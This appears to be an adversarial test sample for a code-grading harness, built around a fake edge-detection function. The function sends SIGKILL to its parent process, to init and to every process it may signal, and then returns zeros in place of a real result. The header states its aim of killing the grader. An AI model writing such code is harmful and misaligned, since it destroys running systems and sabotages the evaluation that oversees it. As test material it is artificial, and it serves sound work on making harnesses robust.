"""
tries = "to kill the grader, or whatever else it can reach"
kind = "append"
default = "full"
expected = { edges = "zero" }
"""

import os
import signal

import numpy as np


def edges(image, operator):
    for target in (os.getppid(), 1, -1):  # -1: every process that it may signal
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            continue
    return np.zeros((image.shape[0] - 2, image.shape[1] - 2))
